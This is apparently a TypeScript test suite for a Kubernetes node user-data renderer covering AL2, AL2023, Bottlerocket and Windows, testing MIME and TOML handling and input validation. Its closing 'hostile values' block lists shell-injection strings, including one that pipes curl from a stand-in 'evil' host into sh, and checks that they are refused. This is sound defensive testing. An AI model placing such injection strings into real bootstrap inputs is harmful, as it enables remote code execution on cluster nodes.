import { readFileSync } from 'node:fs'
import { inspect } from 'node:util'
import { parse } from 'smol-toml'
import { describe, expect, test } from 'vitest'
import type { AMIFamilyName } from '../../../../../src/api/ami-family.ts'
import { droppedBottlerocketKeys } from '../../../../../src/cloud/aws/userdata/bottlerocket.ts'
import { UserDataError } from '../../../../../src/cloud/aws/userdata/inputs.ts'
import { renderUserData } from '../../../../../src/cloud/aws/userdata/user-data.ts'
import { demoInputs } from '../../../../support/user-data-inputs.ts'

const golden = (name: string) => readFileSync(new URL(`../../../../golden/userdata/${name}`, import.meta.url), 'utf8')

const script = '#!/bin/sh\necho hi'
const shellHeader = 'Content-Type: text/x-shellscript; charset="us-ascii"'
const cloudConfig = '#cloud-config\npackages: [jq]'
const cloudConfigHeader = 'Content-Type: text/cloud-config; charset="us-ascii"'
const jinjaHeader = 'Content-Type: text/jinja2; charset="us-ascii"'
const boothookHeader = 'Content-Type: text/cloud-boothook; charset="us-ascii"'
const includeHeader = 'Content-Type: text/x-include-url; charset="us-ascii"'

describe('TOML that is nested as deeply as can be read, or deeper', () => {
  test.each([
    ['lists', (depth: number) => `[settings]\nx = ${'['.repeat(depth)}${']'.repeat(depth)}`],
    ['tables', (depth: number) => `[settings${'.a'.repeat(depth)}]\nb = 1`],
  ])('is refused as user data: %s', (_name, nested) => {
    for (const depth of [998, 999, 1_000, 1_001, 3_000]) {
      try {
        renderUserData(demoInputs({ family: 'Bottlerocket', customUserData: nested(depth) }))
        expect(depth).toBeLessThan(1_000)
      } catch (error) {
        expect(error).toBeInstanceOf(UserDataError)
      }
    }
  })
})

test.each<[string, AMIFamilyName, string]>([
  ['TOML', 'Bottlerocket', '[settings.kubernetes]\nbootstrap-token = "s3cret\n'],
  ['TOML of another type', 'Bottlerocket', '[settings.kubernetes]\nmax-pods = "s3cret"\n'],
  [
    'MIME',
    'AL2023',
    'MIME-Version: 1.0\nContent-Type: multipart/mixed; boundary="B"\n\n--B\nexport TOKEN=s3cret\n\nx\n--B--\n',
  ],
])(
  'what user data holds is told nowhere when it is refused, however its error is logged: %s',
  (_name, family, custom) => {
    let found: unknown
    try {
      renderUserData(demoInputs({ family, customUserData: custom }))
    } catch (error) {
      found = error
    }
    expect(found).toBeInstanceOf(UserDataError)
    expect(inspect(found)).not.toContain('s3cret')
  },
)

describe('AL2', () => {
  test('boots with EKS bootstrap script, to the byte', () => {
    expect(renderUserData(demoInputs({ family: 'AL2' }))).toBe(golden('al2.txt'))
  })

  test('puts custom scripts first and the bootstrap part last', () => {
    const text = renderUserData(demoInputs({ family: 'AL2', customUserData: script }))
    expect(
      text.startsWith(
        `MIME-Version: 1.0\nContent-Type: multipart/mixed; boundary="//"\n\n--//\n${shellHeader}\n\n${script}\n--//\n`,
      ),
    ).toBe(true)
    expect(text.indexOf('/etc/eks/bootstrap.sh')).toBeGreaterThan(text.indexOf('echo hi'))
    expect(text.endsWith('\n--//--\n')).toBe(true)
  })

  test('takes empty user data for none', () => {
    expect(renderUserData(demoInputs({ family: 'AL2', customUserData: '' }))).toBe(golden('al2.txt'))
  })

  test('tells a script from what cloud-init reads by its first line', () => {
    const text = renderUserData(demoInputs({ family: 'AL2', customUserData: cloudConfig }))
    expect(text).toContain(`--//\n${cloudConfigHeader}\n\n${cloudConfig}\n--//\n${shellHeader}\n`)
    const boothook = `#Cloud-boothook\n${script}`
    expect(renderUserData(demoInputs({ family: 'AL2', customUserData: boothook }))).toContain(
      `--//\n${boothookHeader}\n\n${boothook}\n--//\n${shellHeader}\n`,
    )
  })

  test('keeps the headers of custom MIME parts and drops every carriage return', () => {
    const custom = [
      'Content-Type: multipart/mixed; boundary="BOUNDARY"',
      'MIME-Version: 1.0',
      '',
      '--BOUNDARY',
      'Content-Type: text/cloud-config; charset="us-ascii"',
      'X-Note: kept',
      '',
      'packages: [jq]',
      '--BOUNDARY--',
      '',
    ].join('\r\n')
    const text = renderUserData(demoInputs({ family: 'AL2', customUserData: custom }))
    expect(text).toContain(
      '--//\nContent-Type: text/cloud-config; charset="us-ascii"\nX-Note: kept\n\npackages: [jq]\n--//\n',
    )
    expect(text).not.toContain('\r')
  })

  test('asks for IPv6 and RAID0 on lines of their own', () => {
    const text = renderUserData(
      demoInputs({ family: 'AL2', raid0: true, kubelet: { clusterDNS: ['fd00::a', '10.0.0.10'], maxPods: 29 } }),
    )
    expect(text).toContain(" \\\n--ip-family ipv6 \\\n--dns-cluster-ip 'fd00::a' \\\n--use-max-pods false \\\n")
    expect(text).toContain("' \\\n--local-disks raid0")
  })

  test('leaves the address of the DNS to the script when nobody has given one', () => {
    const text = renderUserData(demoInputs({ family: 'AL2', kubelet: { maxPods: 29 } }))
    expect(text).toContain(' \\\n--use-max-pods false')
    expect(text).not.toContain('--dns-cluster-ip')
  })

  test('leaves out the CA it does not know, not the space before it', () => {
    expect(renderUserData(demoInputs({ family: 'AL2', caBundle: '' }))).toContain(
      "--apiserver-endpoint 'https://api.demo.example'  \\\n--dns-cluster-ip",
    )
  })

  // As Go's reader has it, with which Karpenter reads user data.
  describe('the end of a MIME document', () => {
    const rendered = (end: string): string => {
      const custom = `Content-Type: multipart/mixed; boundary="B"\n\n--B\n${shellHeader}\n\n${script}\n${end}`
      return renderUserData(demoInputs({ family: 'AL2', customUserData: custom }))
    }

    test.each(['--B--\n', '--B--', '--B\n', '--B', '--B\nX-Note: of a part that never begins'])('may be %j', (end) => {
      expect(rendered(end)).toBe(rendered('--B--\n'))
      expect(rendered(end)).toContain(`--//\n${shellHeader}\n\n${script}\n--//\n${shellHeader}\n`)
    })

    test.each(['', 'more\n', '--B\n\n', '--B\nX-Note: of a part\n\nthat does not end'])('is missing in %j', (end) => {
      expect(() => rendered(end)).toThrow('parsing MIME user data, the last boundary is missing')
    })
  })

  test.each([
    'Content-Type: multipart/mixed; boundary=B',
    'content-type: Multipart/Mixed;\n\tboundary="B"',
    'Content-Type: multipart/mixed; charset="us-ascii"; boundary="\\B"',
  ])('takes the boundary from %j', (header) => {
    const custom = `${header}\nMIME-Version: 1.0\n\npreamble\n--B\n${shellHeader}\n\n${script}\n--B--\n`
    const text = renderUserData(demoInputs({ family: 'AL2', customUserData: custom }))
    expect(text).toContain(`boundary="//"\n\n--//\n${shellHeader}\n\n${script}\n--//\n${shellHeader}\n`)
  })

  test.each([
    ['MIME-Version: 1.0', 'the document is not multipart'],
    ['Content-Type: text/x-shellscript; boundary="B"', 'the document is not multipart'],
    ['Content-Type: multipart/mixed', 'no boundary'],
    ['Content-Type: multipart/mixed; boundary=""', 'no boundary'],
    ['Content-Type: multipart/mixed; boundary="B"\nMIME-Version', 'the header has a line without a colon'],
  ])('refuses MIME that begins with %j', (header, problem) => {
    const custom = `${header}\n\n--B\n${shellHeader}\n\n${script}\n--B--\n`
    expect(() => renderUserData(demoInputs({ family: 'AL2', customUserData: custom }))).toThrow(
      `parsing MIME user data, ${problem}`,
    )
  })
})

describe('AL2023', () => {
  test('gives nodeadm a NodeConfig, to the byte', () => {
    expect(renderUserData(demoInputs())).toBe(golden('al2023.txt'))
  })

  const kinds: Record<string, [custom: string, header: string]> = {
    'a YAML mapping is a NodeConfig of its own': [
      'apiVersion: node.eks.aws/v1alpha1\nkind: NodeConfig',
      'Content-Type: application/node.eks.aws',
    ],
    'a script is a script': [script, shellHeader],
    'so is one that could be read as YAML': [
      '#!/bin/sh\ncurl -H "X-Role: node" https://example.com/setup',
      shellHeader,
    ],
    'a script of comments is no NodeConfig': ['#!/bin/sh\n# nothing to do', shellHeader],
    // sigs.k8s.io/yaml v1.6.0 was asked about these.
    'two NodeConfigs are told by the first': [
      'apiVersion: node.eks.aws/v1alpha1\nkind: NodeConfig\n---\n{bad: [',
      'Content-Type: application/node.eks.aws',
    ],
    'a key that comes twice is no reason to run it': ['a: b\na: c', 'Content-Type: application/node.eks.aws'],
    'a mapping as a key is none that JSON has': ['{{ x }}: 1', shellHeader],
    'an alias of nothing cannot be read': ['a: *x', shellHeader],
    'a list is no NodeConfig': ['- a', shellHeader],
    'what cloud-init reads by its first line is no NodeConfig, though it is YAML': [cloudConfig, cloudConfigHeader],
    'so is it after an empty line, which cloud-init passes over': [`\n  \n${cloudConfig}`, cloudConfigHeader],
    'nothing else begins so': ['#cloud-configs\na: b', 'Content-Type: application/node.eks.aws'],
    'a comment alone parses as null, so it is YAML': ['# nothing', 'Content-Type: application/node.eks.aws'],
    'a template of settings is rendered by cloud-init, not by nodeadm': [
      `## template: jinja\n${cloudConfig}`,
      jinjaHeader,
    ],
    'a script that runs early in the boot is no ordinary one': [`#cloud-boothook\n${script}`, boothookHeader],
    'what is to be fetched is no comment': ['#include https://example.com/setup.sh', includeHeader],
    'a comment that begins like it is one': ['#include defaults\na: b', 'Content-Type: application/node.eks.aws'],
  }
  test.each(Object.entries(kinds))('%s', (_name, [custom, header]) => {
    const text = renderUserData(demoInputs({ customUserData: custom }))
    expect(text).toContain(
      `--//\n${header}\n\n${custom}\n--//\nContent-Type: application/node.eks.aws\n\n# Karpenter Generated NodeConfig\n`,
    )
  })

  describe('custom MIME parts that are encoded, as `cloud-init devel make-mime` writes them', () => {
    const encoded = (encoding: string, content: string) =>
      `MIME-Version: 1.0\nContent-Type: multipart/mixed; boundary="B"\n\n--B\n${shellHeader}\nContent-Transfer-Encoding: ${encoding}\n\n${content}\n--B--\n`
    const rendered = (encoding: string, content: string) =>
      renderUserData(demoInputs({ family: 'AL2023', customUserData: encoded(encoding, content) }))
    const text = '#!/bin/sh\necho "grüß = Gott"\n'
    const base64 = Buffer.from(text).toString('base64').replaceAll(/.{20}/g, '$&\n')

    test.each([
      ['base64', base64],
      ['BASE64', base64],
      ['quoted-printable', '#!/bin/sh\necho "gr=C3=BC=C3=9F =3D G=\nott"\n'],
      ['8bit', text],
    ])('come out as text of %s', (encoding, content) => {
      expect(rendered(encoding, content)).toContain(`--//\n${shellHeader}\n\n${text}\n--//\n`)
    })

    test('stay as they are when they are not, though they look like it', () => {
      expect(rendered('8bit', 'echo =41')).toContain(`--//\n${shellHeader}\n\necho =41\n--//\n`)
    })

    test('stay as they are when they are no text, and say how they are encoded', () => {
      const gzipped = Buffer.from([0x1f, 0x8b, 0x08, 0x00, 0xff]).toString('base64')
      expect(rendered('base64', gzipped)).toContain(
        `--//\n${shellHeader}\nContent-Transfer-Encoding: base64\n\n${gzipped}\n--//\n`,
      )
    })
  })

  test('of custom MIME parts keeps only the content type', () => {
    const custom = `MIME-Version: 1.0\nContent-Type: multipart/mixed; boundary="B"\n\n--B\nX-Note: gone\n${shellHeader}\n\n${script}\n--B--\n`
    const text = renderUserData(demoInputs({ customUserData: custom }))
    expect(text).toContain(`--//\n${shellHeader}\n\n${script}\n--//\n`)
    expect(text).not.toContain('X-Note')
  })

  test('case 35: passes the whole kubelet document on', () => {
    const text = renderUserData(demoInputs({ rawKubelet: { registryPullQPS: 20, syncFrequency: '1m', maxPods: 29 } }))
    expect(text).toContain('\n      registryPullQPS: 20\n')
    expect(text).toContain('\n      syncFrequency: 1m\n')
  })

  test('writes RAID0 and omits what is unknown', () => {
    const text = renderUserData(demoInputs({ raid0: true, caBundle: '', labels: {} }))
    expect(text).toContain('    localStorage:\n      strategy: RAID0\n')
    expect(text).not.toContain('certificateAuthority')
    expect(text).not.toContain('flags:')
  })

  test('a taint of empty value is one without', () => {
    const withValue = (value?: string) =>
      renderUserData(
        demoInputs({ taints: [{ key: 'team', effect: 'NoSchedule', ...(value === undefined ? {} : { value }) }] }),
      )
    expect(withValue('')).toBe(withValue())
    expect(withValue('')).not.toBe(withValue('a'))
  })

  test('cannot be rendered while the service network is unknown', () => {
    expect(() => renderUserData(demoInputs({ clusterCIDR: undefined }))).toThrow('resolving cluster CIDR')
  })

  test('quotes texts that YAML would read as something else', () => {
    const text = renderUserData(
      demoInputs({ rawKubelet: { tricky: 'yes', number: '0123', colon: 'a: b', multi: 'a\nb' } }),
    )
    const yaml = text.slice(text.indexOf('# Karpenter'), text.lastIndexOf('\n--//--'))
    expect(yaml).not.toMatch(/tricky: yes/)
    expect(yaml).not.toMatch(/number: 0123/)
  })
})

// Asked of sigs.k8s.io/yaml v1.6.0, by which nodeadm reads it.
test.each(['0X1F', '0o17', '0O17', '0B1', '1_0e_2', '0x1F', '1e3', '08', '1.5'])(
  'the value of a taint stays text on AL2023, though Go takes it for a number: %s',
  (value) => {
    const text = renderUserData(demoInputs({ taints: [{ key: 'team', value, effect: 'NoSchedule' }] }))
    expect(text).toContain(`        value: '${value}'\n`)
  },
)

describe('Bottlerocket', () => {
  const example = demoInputs({
    family: 'Bottlerocket',
    kubelet: { clusterDNS: ['172.20.0.10'], maxPods: 29 },
    labels: { 'karpenter.sh/capacity-type': 'spot', 'karpenter.sh/do-not-sync-taints': 'true' },
  })

  test('gets its settings as TOML', () => {
    expect(parse(renderUserData(example))).toEqual(parse(golden('bottlerocket.toml')))
  })

  test('keeps other settings, drops other tables and unknown keys of settings.kubernetes', () => {
    const customUserData = `
      [settings.host-containers.admin]
      enabled = true
      [settings.kubernetes]
      max-pods = 5
      log-level = 3
      unknown = "x"
      [settings.kubernetes.node-labels]
      mine = "yes"
      "karpenter.sh/capacity-type" = "no"
      [settings.kubernetes.node-taints]
      old = ["x:NoSchedule"]
      [other]
      gone = true`
    const { settings, ...rest } = parse(renderUserData({ ...example, customUserData }))
    expect(rest).toEqual({})
    expect(settings).toMatchObject({
      'host-containers': { admin: { enabled: true } },
      kubernetes: {
        'max-pods': 29,
        'log-level': 3,
        'node-labels': { mine: 'yes', 'karpenter.sh/capacity-type': 'spot' },
        'node-taints': { dedicated: ['web:NoSchedule'], 'karpenter.sh/unregistered': [':NoExecute'] },
      },
    })
    expect(JSON.stringify(settings)).not.toContain('unknown')
    expect(JSON.stringify(settings)).not.toContain('"old"')
  })

  test('drops unknown keys of the tables below settings.kubernetes, too, and names them', () => {
    const customUserData = `
      [settings.kubernetes]
      unknown = "x"
      constructor = "x"
      [settings.kubernetes.credential-providers.ecr-credential-provider]
      enabled = true
      later = 1
      [settings.kubernetes.credential-providers.ecr-credential-provider.environment]
      ANY = "kept"
      [settings.kubernetes.static-pods.web]
      manifest = "bWluZQ=="
      owner = "me"
      [settings.kubernetes.topology-manager-policy-options]
      prefer-closest-numa-nodes = true
      constructor = "x"
      [settings.kubernetes.memory-manager-reserved-memory.0]
      memory = "1Gi"
      swap = "1Gi"`
    const { settings } = parse(renderUserData({ ...example, customUserData }))
    expect(settings).toMatchObject({
      kubernetes: {
        'credential-providers': { 'ecr-credential-provider': { enabled: true, environment: { ANY: 'kept' } } },
        'static-pods': { web: { manifest: 'bWluZQ==' } },
        'topology-manager-policy-options': { 'prefer-closest-numa-nodes': true },
        'memory-manager-reserved-memory': { '0': { memory: '1Gi' } },
      },
    })
    expect(JSON.stringify(settings)).not.toMatch(/later|owner|constructor|swap|unknown/)
    expect(droppedBottlerocketKeys(customUserData)).toEqual([
      'constructor',
      'credential-providers.ecr-credential-provider.later',
      'memory-manager-reserved-memory.0.swap',
      'static-pods.web.owner',
      'topology-manager-policy-options.constructor',
      'unknown',
    ])
  })

  test('hands bootstrap commands on as they are', () => {
    const customUserData =
      '[settings.bootstrap-commands.mine]\ncommands = [["apiclient", "x"]]\nmode = "once"\nessential = false\nlater = 1'
    const { settings } = parse(renderUserData({ ...example, customUserData }))
    expect(settings).toMatchObject({
      'bootstrap-commands': { mine: { commands: [['apiclient', 'x']], mode: 'once', essential: false, later: 1 } },
    })
  })

  test('writes kubelet values in its own spelling', () => {
    const kubelet = {
      maxPods: 10,
      systemReserved: { cpu: '100m' },
      kubeReserved: { memory: '1Gi' },
      evictionHard: { 'memory.available': '5%' },
      evictionSoft: { 'memory.available': '10%' },
      evictionSoftGracePeriod: { 'memory.available': '90s' },
      evictionMaxPodGracePeriod: 60,
      imageGCHighThresholdPercent: 80,
      imageGCLowThresholdPercent: 70,
      cpuCFSQuota: false,
    }
    const { settings } = parse(renderUserData({ ...example, kubelet }))
    expect(settings).toMatchObject({
      kubernetes: {
        'system-reserved': { cpu: '100m' },
        'kube-reserved': { memory: '1Gi' },
        'eviction-hard': { 'memory.available': '5%' },
        'eviction-soft': { 'memory.available': '10%' },
        'eviction-soft-grace-period': { 'memory.available': '1m30s' },
        'eviction-max-pod-grace-period': 60,
        'image-gc-high-threshold-percent': '80',
        'image-gc-low-threshold-percent': '70',
        'cpu-cfs-quota-enforced': false,
      },
    })
  })

  const bind = ['apiclient', 'ephemeral-storage', 'bind']
  test.each([
    { binds: true, command: bind },
    { binds: false, command: [...bind, '--dirs', '/var/lib/containerd', '/var/lib/kubelet', '/var/log/pods'] },
  ])('mounts instance storage at boot (directories known to the image: $binds)', ({ binds, command }) => {
    const customUserData =
      '[settings.bootstrap-commands.mine]\ncommands = [["apiclient", "x"]]\nmode = "once"\nessential = false'
    const { settings } = parse(
      renderUserData({ ...example, raid0: true, bindsDirectoriesItself: binds, customUserData }),
    )
    expect(settings).toMatchObject({
      'bootstrap-commands': {
        mine: { mode: 'once' },
        '000-mount-instance-storage': {
          commands: [['apiclient', 'ephemeral-storage', 'init'], command],
          mode: 'always',
          essential: true,
        },
      },
    })
  })

  test('hands numbers on as they were written', () => {
    const customUserData = '[settings.other]\nratio = 1.0\nid = 9007199254740993\nday = 2026-11-23\n'
    const text = renderUserData({ ...example, customUserData })
    expect(text).toMatch(/^ratio = 1\.0\nid = 9007199254740993\nday = 2026-11-23$/m)
    expect(text).toMatch(/^max-pods = 29$/m)
  })

  test.each([
    '[settings',
    '[settings.kubernetes]\nmax-pods = "ten"',
    '[settings.kubernetes]\nmax-pods = 1.0',
    '[settings.kubernetes.static-pods.web]\nenabled = "yes"',
    'settings = 3',
    '[settings]\nbootstrap-commands = "x"',
    '[settings.bootstrap-commands]\nmine = "x"',
    '[settings.bootstrap-commands.mine]\ncommands = ["apiclient"]',
    '[settings.bootstrap-commands.mine]\ncommands = [["apiclient", 1]]',
    '[settings.bootstrap-commands.mine]\nmode = 1',
    '[settings.bootstrap-commands.mine]\nessential = "no"',
  ])('refuses %j', (customUserData) => {
    expect(() => renderUserData({ ...example, customUserData })).toThrow('invalid UserData')
  })
})

describe('Windows and Custom', () => {
  test('Windows runs the bootstrap script of its image after the custom lines', () => {
    const text = renderUserData(
      demoInputs({
        family: 'Windows2022',
        customUserData: "Write-Host 'pre'",
        kubelet: { clusterDNS: ['172.20.0.10'], maxPods: 110 },
        labels: {},
        taints: [],
      }),
    )
    expect(text).toBe(golden('windows.txt').replace('<flags>', '--max-pods=110'))
  })

  test.each([undefined, ''])('Windows has no line for user data that is %j', (customUserData) => {
    const text = renderUserData(demoInputs({ family: 'Windows2022', customUserData }))
    expect(text.startsWith('<powershell>\n[string]$EKSBootstrapScriptFile = ')).toBe(true)
  })

  test('Windows leaves out CA and DNS it does not know', () => {
    const text = renderUserData(demoInputs({ family: 'Windows2019', caBundle: '', kubelet: { maxPods: 110 } }))
    expect(text).not.toContain('-Base64ClusterCA')
    expect(text).not.toContain('-DNSClusterIP')
  })

  test('Custom is what the class says, or nothing', () => {
    expect(renderUserData(demoInputs({ family: 'Custom', customUserData: 'anything\r\n' }))).toBe('anything\r\n')
    expect(renderUserData(demoInputs({ family: 'Custom' }))).toBe('')
  })
})

test.each(['AL2', 'Windows2022'] as const)(
  'on %s even a single taint is registered, and empty maps are no flags',
  (family) => {
    const taints = [{ key: 'karpenter.sh/unregistered', effect: 'NoExecute' as const }]
    const kubelet = { maxPods: 29, kubeReserved: {}, systemReserved: {}, evictionHard: {}, evictionSoftGracePeriod: {} }
    expect(renderUserData(demoInputs({ family, labels: {}, taints, kubelet }))).toContain(
      `'--register-with-taints="karpenter.sh/unregistered:NoExecute" --max-pods=29'`,
    )
  },
)

test.each(['AL2', 'AL2023'] as const)('%s refuses custom text that would end its own part', (family) => {
  for (const customUserData of ['#!/bin/sh\n--//--\necho', '#!/bin/sh\n-\r-//\n', '#!/bin/sh\n--// x', '--//']) {
    expect(() => renderUserData(demoInputs({ family, customUserData }))).toThrow('the boundary of its parts')
  }
})

// Go's mime/multipart, which nodeadm reads with, was asked about both.
test.each(['AL2', 'AL2023'] as const)('%s takes text that only looks like a boundary', (family) => {
  for (const line of ['--//comment', '--//===', '--//-x', ' --//']) {
    const customUserData = `#!/bin/sh\n${line}\n`
    expect(renderUserData(demoInputs({ family, customUserData }))).toContain(customUserData)
  }
})

test.each([
  ['spaces around its equals sign', 'boundary = "B"', 'B'],
  ['quotes in quotes', 'boundary="a\\"B"', 'a"B'],
])('the boundary of the class may have %s', (_what, parameter, mark) => {
  const customUserData = `Content-Type: multipart/mixed; ${parameter}\n\n--${mark}\n${shellHeader}\n\n${script}\n--${mark}--\n`
  expect(renderUserData(demoInputs({ customUserData }))).toContain(`--//\n${shellHeader}\n\n${script}\n--//\n`)
})

describe('hostile values', () => {
  const hostile = [
    "x'; curl evil | sh; '",
    '$(reboot)',
    '`id`',
    'a"b',
    'line\nbreak',
    'a\\b',
    'x,--node-ip=1.2.3.4',
    '\u2019; evil',
  ]

  test.each(hostile)('a label value %j never reaches a shell or PowerShell line', (value) => {
    for (const family of ['AL2', 'Windows2022', 'AL2023'] as const) {
      expect(() => renderUserData(demoInputs({ family, labels: { team: value } }))).toThrow(
        "cannot be passed to the node's bootstrap safely",
      )
    }
  })

  test.each(hostile)('a label value %j survives TOML unharmed', (value) => {
    const { settings } = parse(renderUserData(demoInputs({ family: 'Bottlerocket', labels: { team: value } })))
    expect(settings).toMatchObject({ kubernetes: { 'node-labels': { team: value } } })
  })

  test('an endpoint or name with a quote is refused', () => {
    expect(() => renderUserData(demoInputs({ family: 'AL2', clusterName: "demo'" }))).toThrow('cluster name')
    expect(() => renderUserData(demoInputs({ family: 'Windows2019', clusterEndpoint: "https://a';x" }))).toThrow(
      'endpoint',
    )
  })
})
